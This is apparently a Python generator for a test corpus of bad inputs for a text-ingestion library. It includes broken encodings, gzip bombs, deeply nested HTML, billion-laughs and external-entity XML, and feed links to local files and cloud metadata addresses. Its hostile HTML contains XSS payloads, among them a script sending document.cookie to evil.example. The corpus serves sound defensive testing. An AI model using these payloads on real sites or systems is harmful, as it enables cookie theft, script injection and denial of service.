"""Make the corpus of bad inputs that tests/test_hostile.py feeds to storyweave.

Every text here is made up. Small inputs are committed next to this script; large ones
(tens of megabytes, deep nesting, decompression bombs) are written into a temporary
folder at test time by :func:`write_large`, so the repository stays small.

Each :class:`Case` carries its documented outcome: how many articles it must yield, how
many one-line failures (each naming the input), words the error must contain, and words
the cleaned text must (``present``) or must not (``absent``) contain.

Usage::

    python tests/data/bad/make_bad_inputs.py            # rewrite the committed inputs
    python tests/data/bad/make_bad_inputs.py --large D  # also write the large ones into D
"""

from __future__ import annotations

import argparse
import gzip
import io
import json
import random
from dataclasses import dataclass
from pathlib import Path
from typing import Callable

HERE = Path(__file__).resolve().parent

#: A plain-text article every case is read next to: it must come through each time.
CONTROL_TITLE = "Ferry service resumes across Greywater Bay"
CONTROL_BODY = (
    "The ferry between Portmell and Greywater resumed service on Monday after a two-week halt.\n\n"
    "Harbour master Ilse Brandt said the new pier had passed its safety inspection."
)

_BODY = (
    "The council of Oakridge approved a new footbridge over the Linden river on Tuesday.\n\n"
    "Mayor Tomas Wren said the bridge would open next spring, according to the council."
)
_TITLE = "Oakridge approves footbridge over the Linden"


def _text(title: str = _TITLE, body: str = _BODY) -> str:
    return f"{title}\n\n{body}\n"


def _page(body_html: str, head: str = "<title>Oakridge approves footbridge</title>") -> str:
    return f"<!doctype html><html><head><meta charset='utf-8'>{head}</head><body>{body_html}</body></html>"


_ARTICLE_HTML = (
    "<article><h1>Oakridge approves footbridge over the Linden</h1>"
    "<p>The council of Oakridge approved a new footbridge over the Linden river on Tuesday.</p>"
    "<p>Mayor Tomas Wren said the bridge would open next spring, according to the council.</p></article>"
)


def _jsonl(*lines: object) -> bytes:
    out = []
    for line in lines:
        out.append(line if isinstance(line, str) else json.dumps(line, ensure_ascii=False))
    return ("\n".join(out) + "\n").encode("utf-8")


def _good(n: int, **extra: object) -> dict[str, object]:
    return {"id": f"a{n}", "title": f"Storm closes the coast road, report {n}",
            "text": f"The coast road near Saltmere was closed on Friday after storm damage, report {n} said.\n\n"
                    "Engineers said repairs would take a week.", **extra}


def _random_bytes(n: int, seed: int) -> bytes:
    return random.Random(seed).randbytes(n)


def _gz(data: bytes) -> bytes:
    buf = io.BytesIO()
    with gzip.GzipFile(fileobj=buf, mode="wb", mtime=0) as fh:
        fh.write(data)
    return buf.getvalue()


def _feed(items: str, doctype: str = "") -> str:
    return (f"<?xml version='1.0' encoding='utf-8'?>{doctype}<rss version='2.0'><channel>"
            f"<title>Oakridge Gazette</title><link>http://10.9.8.7/</link>{items}</channel></rss>")


_LAUGHS = (
    "<!DOCTYPE rss [<!ENTITY lol 'lol'>"
    + "".join(f"<!ENTITY lol{i} '{('&lol%s;' % (i - 1 if i > 1 else '')) * 10}'>" for i in range(1, 10))
    + "]>"
)

# Multilingual and special-script texts (made up).
_RUSSIAN = _text("Мост через реку Линден открыт", "Городской совет Оукриджа в четверг открыл новый пешеходный мост.\n\nМэр Томас Рен заявил, что строительство заняло два года.")
_KOREAN = _text("린든 강에 새 보행교 개통", "오크리지 시의회는 목요일 새 보행교를 개통했다.\n\n토마스 렌 시장은 공사에 2년이 걸렸다고 말했다.")
_ARABIC = _text("افتتاح جسر جديد فوق نهر ليندن", "افتتح مجلس مدينة أوكريدج يوم الخميس جسرا جديدا للمشاة.\n\nوقال رئيس البلدية توماس رين إن البناء استغرق عامين.")
_HEBREW_RTL = _text("\u202eOakridge bridge opens\u202c", "גשר חדש נפתח בעיר אוקרידג' ביום חמישי.\n\nThe mayor said \u2067עברית\u2069 signs were added on the bridge.")
_EMOJI = _text("Bridge opens 🌉🎉 in Oakridge", "The council opened the new bridge on Thursday 🎉🎉.\n\nMayor Tomas Wren 👷 said it cost 4 million 💶 and took two years ⏳.")
_ZW = _text("Oak\u200bridge bri\u200ddge op\u200cens", "The coun\u200bcil of Oak\u2060ridge opened the bridge on Thurs\ufeffday.\n\nMayor Tomas\u200b Wren said it took two years.")
_COMBINING = _text("Bridge opens", "Z\u0351\u0352a\u0353\u0354l\u0355\u0356g\u0357o\u0358 text " * 20 + "\n\nMayor Tomas Wren said the bridge opened on Thursday.")

_HOSTILE_SCRIPT = _page("<script>document.location='http://evil.example/?c='+document.cookie</script>" + _ARTICLE_HTML
                        + "<script>alert('pwned-script')</script>")
_HOSTILE_IFRAME = _page("<iframe src='http://evil.example/frame'>pwned-iframe</iframe>" + _ARTICLE_HTML
                        + "<object data='evil.swf'>pwned-object</object>")
_HOSTILE_EVENTS = _page(_ARTICLE_HTML.replace("<p>", "<p onclick=\"alert('pwned-onclick')\" onmouseover='steal()'>")
                        + "<img src=x onerror=\"alert('pwned-onerror')\"><body onload=alert(1)>")
_HOSTILE_JS_URL = _page(_ARTICLE_HTML + "<p>Read <a href=\"javascript:alert('pwned-js')\">the plan</a> "
                        "and <a href='JaVaScRiPt:evil()'>the map</a> online.</p>")
_HOSTILE_DATA_URL = _page(_ARTICLE_HTML + "<p><a href='data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='>Click</a> "
                          "<img src='data:image/svg+xml,<svg onload=alert(1)>'></p>")
_HOSTILE_CSS = _page(_ARTICLE_HTML + "<p style=\"width: expression(alert('pwned-css'))\">Styled note from the council.</p>"
                     "<style>body { background: url('javascript:alert(1)') } .x{behavior:url(evil.htc)}</style>")
_HOSTILE_SVG = _page(_ARTICLE_HTML + "<svg><script>alert('pwned-svg')</script><foreignObject>x</foreignObject></svg>")
_HOSTILE_META = ("<!doctype html><html><head><meta http-equiv='refresh' content='0;url=javascript:alert(1)'>"
                 "<base href='javascript:alert(1)//'><title>Oakridge approves footbridge</title></head><body>"
                 + _ARTICLE_HTML + "</body></html>")
_HOSTILE_TEXT_TAGS = _text("<script>alert('title')</script> Oakridge bridge",
                           "The council said <img src=x onerror=alert(1)> the bridge opens in spring.\n\n"
                           "Mayor Tomas Wren said \"</textarea><script>alert(2)</script>\" was a joke.")
_HOSTILE_COMMENTS = _page("<!--<script>alert('pwned-comment')</script>-->" + _ARTICLE_HTML + "<![CDATA[pwned-cdata]]>")
_HOSTILE_NUL = _page(_ARTICLE_HTML.replace("council", "coun\x00cil", 1))


@dataclass(frozen=True)
class Case:
    """One bad input and what storyweave must make of it.

    Attributes:
        name: file name (its extension decides how it is read).
        make: returns the file's bytes.
        articles: how many articles it must yield.
        failures: how many failure records (one line each, naming this input).
        error: words every failure's reason must contain.
        present: words the cleaned text of the first article must contain.
        absent: words no yielded article's text or title may contain.
        large: written at test time, not committed.
    """

    name: str
    make: Callable[[], bytes]
    articles: int = 0
    failures: int = 1
    error: str = ""
    present: tuple[str, ...] = ()
    absent: tuple[str, ...] = ()
    large: bool = False


def _u(text: str) -> Callable[[], bytes]:
    return lambda: text.encode("utf-8")


OK = {"articles": 1, "failures": 0}

CASES: tuple[Case, ...] = (
    # --- empty, binary, compression -----------------------------------------------------
    Case("empty.txt", lambda: b"", error="empty"),
    Case("whitespace-only.txt", lambda: b"  \n\t\n \r\n   \n", error="whitespace"),
    Case("unicode-spaces-only.txt", _u("\u00a0\u2003\u3000\n\u2028\u2029\n"), error="whitespace"),
    Case("binary.txt", lambda: _random_bytes(4096, 1), error="not text"),
    Case("png-named-txt.txt", lambda: b"\x89PNG\r\n\x1a\n" + _random_bytes(2000, 2), error="not text"),
    Case("elf-binary.html", lambda: b"\x7fELF\x02\x01\x01\x00" + _random_bytes(3000, 3), error="not text"),
    Case("truncated.txt.gz", lambda: _gz(_text().encode() * 50)[:-40], error="cut short"),
    Case("gzip-magic-garbage.txt.gz", lambda: b"\x1f\x8b" + _random_bytes(500, 4), error="gzip"),
    Case("truncated.jsonl.gz", lambda: _gz(_jsonl(*[_good(i) for i in range(40)]))[:-30],
         articles=-1, failures=1, error="gzip"),
    Case("gzip-ok.txt.gz", lambda: _gz(_text().encode()), **OK, present=("footbridge",)),
    # --- encodings ----------------------------------------------------------------------
    Case("utf16-no-bom.txt", lambda: _text().encode("utf-16-le"), error="not text"),
    Case("utf16-with-bom.txt", lambda: _text().encode("utf-16"), **OK, present=("Linden",)),
    Case("utf8-bom.txt", lambda: b"\xef\xbb\xbf" + _text().encode(), **OK, present=("Linden",)),
    Case("bad-utf16-after-bom.txt", lambda: b"\xff\xfe" + b"A\x00" * 10 + b"\x00\xd8", error="byte-order mark"),
    Case("latin1.txt", lambda: _text("Zürich café reopens", "The café in Zürich reopened on Tuesday.\n\nThe owner said façade repairs had ended.").encode("latin-1"),
         **OK, present=("façade",)),
    Case("latin1-declared-utf8.html", lambda: _page("<p>The café in Zürich reopened on Tuesday after façade repairs, the owner said.</p>"
                                                     "<p>Regulars queued outside the café before dawn.</p>").encode("latin-1"),
         **OK, present=("Zürich",)),
    Case("mixed-encodings.txt", lambda: "Bridge opens in Zürich\n\n".encode("utf-8") + "The café opened on Tuesday, the owner said.\n".encode("latin-1")
         + "Crowds gathered at the façade.\n".encode("utf-8"), **OK, present=("opened on Tuesday",)),
    Case("mixed-encodings.jsonl", lambda: _jsonl(_good(1)) + json.dumps(_good(2, text="The café opened, the owner said. Façade done."), ensure_ascii=False).encode("latin-1") + b"\n" + _jsonl(_good(3)),
         articles=2, failures=1, error="not UTF-8"),
    Case("shift-jis.txt", lambda: _text("橋が開通", "オークリッジ市議会は木曜日に新しい歩道橋を開通させた。\n\n市長は工事に二年かかったと述べた。").encode("shift_jis"),
         failures=1, error="not text"),
    Case("control-chars.txt", lambda: _text().encode() + bytes(range(1, 9)) * 200, **OK, present=("footbridge",), absent=("\x01", "\x08")),
    Case("ansi-escapes.txt", _u(_text("\x1b[31mRed\x1b[0m bridge news", "\x1b[2J\x1b]0;pwned-title\x07The council met on Tuesday, the mayor said.\n\n"
                                  "\x1b[8mhidden\x1b[0m The bridge opens in spring.")), **OK, present=("council met",), absent=("\x1b", "\x07")),
    # --- size ---------------------------------------------------------------------------
    Case("big-50mb.txt", lambda: (_text() * 1).encode() + b"The council met again and said the footbridge plan stands.\n" * 860_000,
         error="over the limit", large=True),
    Case("one-line-5mb.txt", lambda: b"word " * 1_000_000, error="over the limit", large=True),
    Case("one-line-5mb.jsonl", lambda: _jsonl(_good(1), {"id": "huge", "title": "Huge", "text": "word " * 1_000_000}, _good(2)),
         articles=2, failures=1, error="over the limit", large=True),
    Case("gzip-bomb.txt.gz", lambda: _gz(b"a" * 200_000_000), error="over the limit", large=True),
    Case("gzip-bomb.jsonl.gz", lambda: _gz(_jsonl(_good(1)) + b"x" * 200_000_000 + b"\n" + _jsonl(_good(2))), articles=2, failures=1, error="over the limit", large=True),
    # --- HTML structure -------------------------------------------------------------------
    # Nesting past the parser's depth limit: the layout is flattened and the text read.
    Case("nested-10000.html", lambda: _page("<div>" * 10_000 + _ARTICLE_HTML + "</div>" * 10_000).encode(),
         articles=1, failures=0, present=("footbridge over the Linden river",), large=True),
    Case("nested-unclosed-10000.html", lambda: _page("<span><b><i>" * 3_400 + "Deep text.").encode(),
         articles=1, failures=0, present=("Deep text.",), large=True),
    Case("nested-300-article.html", lambda: _page("<div>" * 120 + _ARTICLE_HTML + "</div>" * 120).encode(), **OK, present=("footbridge",)),
    Case("no-body.html", _u("<!doctype html><html><head><title>Only a title</title><meta name='x' content='y'></head></html>"),
         error="no article text"),
    Case("only-scripts.html", _u("<!doctype html><html><head><script>var a=1;</script></head><body>"
                                   "<script>document.write('x')</script><script src='a.js'></script><style>p{}</style></body></html>"),
         error="no text"),
    Case("empty-tags.html", _u("<html><body><div></div><p></p><span> </span></body></html>"), error="no text"),
    Case("unclosed-tags.html", _u("<html><body><p>The council of Oakridge approved a new footbridge over the Linden river on Tuesday.<p>Mayor Tomas Wren said the bridge would open next spring.<div><b><i>"),
         **OK, present=("footbridge",)),
    Case("not-html-angle-brackets.html", _u("<<<>>> <<< >>> <!-- <? ?> <![ ]]> </ >"), **OK, present=("<<<",)),
    Case("frameset.html", _u("<html><frameset><frame src='http://10.0.0.1/'></frameset></html>"), error="no text"),
    # --- feeds ----------------------------------------------------------------------------
    Case("billion-laughs.xml", lambda: _feed("<item><title>&lol9;</title><link>http://10.1.1.1/a</link></item>", _LAUGHS).encode(),
         error="refused", absent=("lollollol",)),
    Case("external-entity.xml", lambda: _feed("<item><title>&xxe;</title><link>http://10.1.1.1/a</link></item>",
                                              "<!DOCTYPE rss [<!ENTITY xxe SYSTEM 'file:///etc/passwd'>]>").encode(),
         error="refused", absent=("root:",)),
    Case("feed-10000-items.xml", lambda: _feed("".join(f"<item><title>Item {i}</title><link>http://10.{i // 250}.{i % 250}.1/story/{i}</link></item>"
                                                       for i in range(10_000))).encode(), failures=-1, error="", large=True),
    Case("feed-file-urls.xml", lambda: _feed("<item><title>Local</title><link>file:///etc/passwd</link></item>"
                                              "<item><title>Meta</title><link>http://169.254.169.254/latest/meta-data/</link></item>"
                                              "<item><title>Loop</title><link>http://127.0.0.1:1/</link></item>").encode(),
         failures=3, error="fetch", absent=("root:",)),
    Case("feed-no-items.xml", lambda: _feed("").encode(), error="no items"),
    Case("feed-broken.rss", _u("<rss version='2.0'><channel><title>Cut</title><item><link>http://10.0.0.1/x"), error="no items"),
    # --- JSONL ----------------------------------------------------------------------------
    Case("malformed-lines.jsonl", lambda: _jsonl(_good(1), "{not json", _good(2), '{"id": "x", "text": "cut', "[1, 2, 3]", '"a string"',
                                                  "null", "42", _good(3), '{"id": "t", "text": "a",}'),
         articles=3, failures=7, error="JSON"),
    Case("wrong-types.jsonl", lambda: _jsonl(_good(1), {"id": 1, "text": 42}, {"text": ["a", "b"]}, {"html": {"p": 1}},
                                              {"text": None, "html": None}, {"text": ""}, {"text": "   \n "},
                                              {"id": 2, "text": "x", "published": {"y": 2024}}, {"text": "Body here.", "published": "yesterday-ish"},
                                              _good(2, title=["a", "list"], source=7, language=3, id={"nested": True}, url=12)),
         articles=2, failures=8, error=""),
    Case("duplicate-ids.jsonl", lambda: _jsonl(_good(1), _good(1), dict(_good(2), id="a1"), dict(_good(3), id="a1")),
         articles=3, failures=0),
    Case("deep-json.jsonl", lambda: _jsonl(_good(1), "[" * 100_000 + "]" * 100_000, '{"text": ' + "[" * 50_000 + "]" * 50_000 + "}", _good(2)),
         articles=2, failures=2, error="not valid JSON"),
    Case("huge-number.jsonl", lambda: _jsonl(_good(1), '{"id": ' + "9" * 10_000 + ', "text": "x"}', '{"id": 1e999, "text": "Body."}', _good(2)),
         articles=3, failures=1, error="not valid JSON"),
    Case("lone-surrogate.jsonl", lambda: _jsonl(_good(1), '{"id": "s", "title": "Half \\ud800 pair", "text": "Broken \\udc00 surrogate in the text, the council said."}', _good(2)),
         articles=2, failures=1, error="surrogate"),
    Case("nul-in-json.jsonl", lambda: _jsonl(_good(1), {"id": "n", "title": "Nul\u0000title", "text": "The council\u0000 met on Tuesday, the mayor said."}),
         articles=2, failures=0, absent=("\x00",)),
    Case("crlf-bom.jsonl", lambda: b"\xef\xbb\xbf" + _jsonl(_good(1), _good(2)).replace(b"\n", b"\r\n"), articles=2, failures=0),
    Case("blank-lines-only.jsonl", lambda: b"\n\n   \n\t\n", error="empty"),
    Case("html-field-hostile.jsonl", lambda: _jsonl({"id": "h", "title": "<script>alert(1)</script>Bridge", "html": _HOSTILE_SCRIPT},
                                                      {"id": "u", "title": "Link", "text": "The mayor said the bridge opens.", "url": "javascript:alert(1)"}),
         articles=2, failures=0, absent=("pwned-script",)),
    # --- languages and scripts ----------------------------------------------------------------
    Case("russian.txt", _u(_RUSSIAN), **OK, present=("Мэр Томас Рен",)),
    Case("korean.txt", _u(_KOREAN), **OK, present=("보행교",)),
    Case("arabic.txt", _u(_ARABIC), **OK, present=("توماس رين",)),
    Case("rtl-overrides.txt", _u(_HEBREW_RTL), **OK, present=("גשר",)),
    Case("emoji.txt", _u(_EMOJI), **OK, present=("👷",)),
    Case("zero-width.txt", _u(_ZW), **OK, present=("Wren",)),
    Case("combining-marks.txt", _u(_COMBINING), **OK, present=("Thursday",)),
    Case("multilingual.jsonl", lambda: _jsonl({"id": "ru", "language": "ru", "text": _RUSSIAN}, {"id": "ko", "language": "ko", "text": _KOREAN},
                                               {"id": "ar", "language": "ar", "text": _ARABIC}), articles=3, failures=0),
    Case("russian-cp1251.html", lambda: ("<html><head><meta charset='windows-1251'><title>Мост открыт</title></head><body><p>"
                                           + _RUSSIAN.replace("\n", " ") + "</p></body></html>").encode("cp1251"), **OK, present=("Мэр",)),
    # --- hostile HTML -----------------------------------------------------------------------
    Case("hostile-script.html", _u(_HOSTILE_SCRIPT), **OK, present=("footbridge",), absent=("pwned-script", "document.cookie")),
    Case("hostile-iframe.html", _u(_HOSTILE_IFRAME), **OK, present=("footbridge",), absent=("pwned-iframe", "pwned-object")),
    Case("hostile-events.html", _u(_HOSTILE_EVENTS), **OK, present=("footbridge",), absent=("pwned-onclick", "pwned-onerror", "onerror")),
    Case("hostile-javascript-url.html", _u(_HOSTILE_JS_URL), **OK, present=("footbridge",), absent=("javascript:", "pwned-js")),
    Case("hostile-data-url.html", _u(_HOSTILE_DATA_URL), **OK, present=("footbridge",), absent=("data:text/html", "base64")),
    Case("hostile-css-expression.html", _u(_HOSTILE_CSS), **OK, present=("footbridge",), absent=("expression(", "pwned-css", "behavior")),
    Case("hostile-svg-script.html", _u(_HOSTILE_SVG), **OK, present=("footbridge",), absent=("pwned-svg",)),
    Case("hostile-meta-refresh.html", _u(_HOSTILE_META), **OK, present=("footbridge",), absent=("javascript:",)),
    Case("hostile-comments-cdata.html", _u(_HOSTILE_COMMENTS), **OK, present=("footbridge",), absent=("pwned-comment",)),
    Case("hostile-nul-byte.html", _u(_HOSTILE_NUL), error="not text"),
    Case("hostile-tags-in-text.txt", _u(_HOSTILE_TEXT_TAGS), **OK, present=("<img src=x onerror=alert(1)>",)),
)


def write_small(folder: Path = HERE) -> list[Path]:
    """Write every committed (small) input into ``folder``; returns their paths."""
    return [_write(folder, case) for case in CASES if not case.large]


def write_large(folder: Path) -> list[Path]:
    """Write the large inputs (never committed) into ``folder``; returns their paths."""
    return [_write(folder, case) for case in CASES if case.large]


def _write(folder: Path, case: Case) -> Path:
    path = folder / case.name
    path.write_bytes(case.make())
    return path


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    parser.add_argument("--large", type=Path, help="also write the large inputs into this folder")
    args = parser.parse_args()
    print(f"wrote {len(write_small())} small inputs into {HERE}")
    if args.large:
        args.large.mkdir(parents=True, exist_ok=True)
        print(f"wrote {len(write_large(args.large))} large inputs into {args.large}")


if __name__ == "__main__":
    main()
